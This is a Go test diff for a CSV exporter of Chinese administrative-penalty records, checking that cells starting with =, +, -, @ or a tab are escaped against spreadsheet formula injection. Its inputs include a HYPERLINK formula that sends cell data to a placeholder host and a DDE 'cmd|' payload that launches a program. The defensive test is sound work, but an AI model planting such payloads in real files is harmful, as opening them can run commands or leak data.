@@ -172,3 +172,46 @@ func TestAsOf(t *testing.T) {
 		}
 	}
 }
+
+// TestOpenDataCSVFormula: a cell that a spreadsheet would take for a
+// formula (=, +, -, @, or a tab or carriage return first) is written with
+// a leading apostrophe, so that opening data.csv in Excel or WPS never
+// runs =HYPERLINK(…) or =cmd|…; numbers stay numbers, and data.json keeps
+// the text as the page shows it.
+func TestOpenDataCSVFormula(t *testing.T) {
+	recs := openRecords(t)
+	r := recs[0]
+	r.Facts = `=HYPERLINK("http://example.invalid/?"&A1,"点击")`
+	r.Content = "+1+cmd|' /C calc'!A0"
+	r.Note = "@SUM(1+1)"
+	r.Basis = "-2+3"
+	r.Licence = "\t=1+1"
+	neg := -0.5
+	r.Confiscated = &neg
+	out := CSV(Penalty, recs)
+	rows, err := csv.NewReader(bytes.NewReader(out[3:])).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for i, h := range rows[0] {
+		got[h] = rows[1][i]
+	}
+	for head, want := range map[string]string{
+		"违法事实":         `'=HYPERLINK("http://example.invalid/?"&A1,"点击")`,
+		"处罚内容":         "'+1+cmd|' /C calc'!A0",
+		"备注":           "'@SUM(1+1)",
+		"处罚依据":         "'-2+3",
+		"暂扣或吊销证照名称及编号": "'\t=1+1",
+		"没收违法所得、没收非法财物的金额（万元）": "-0.5",
+		"罚款金额（万元）":             "0.2",
+		"行政相对人名称":              "张某",
+	} {
+		if got[head] != want {
+			t.Errorf("%s = %q, want %q", head, got[head], want)
+		}
+	}
+	if j := JSON(Penalty, "行政处罚", "/zhifa/", "2024-04-01", recs); !bytes.Contains(j, []byte(`"note": "@SUM(1+1)"`)) {
+		t.Errorf("data.json changed the text:\n%s", j)
+	}
+}
